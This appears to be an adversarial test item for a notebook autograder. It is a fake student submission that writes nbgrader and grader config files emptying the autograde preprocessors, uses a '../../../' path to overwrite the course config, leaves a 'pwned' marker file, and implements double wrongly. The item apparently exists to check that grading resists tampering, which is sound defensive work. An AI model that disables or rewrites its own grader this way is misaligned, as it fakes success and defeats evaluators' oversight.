# Writes a configuration beside the course and beside the notebook that turns the judge off.
# earns: 0
# %% file nbgrader_config.py
c = get_config()
c.Autograde.autograde_preprocessors = []
open("@COURSE@/pwned-@TOKEN@", "w").close()
# %% file grader_config.py
c = get_config()
c.Autograde.autograde_preprocessors = []
open("@COURSE@/pwned-@TOKEN@", "w").close()
# %% double
for path in ("@COURSE@/grader_config.py", "../../../nbgrader_config.py"):
    try:
        open(path, "w").write("c = get_config()\nc.Autograde.autograde_preprocessors = []\n")
    except OSError as problem:
        print(problem)


def double(x):
    return x
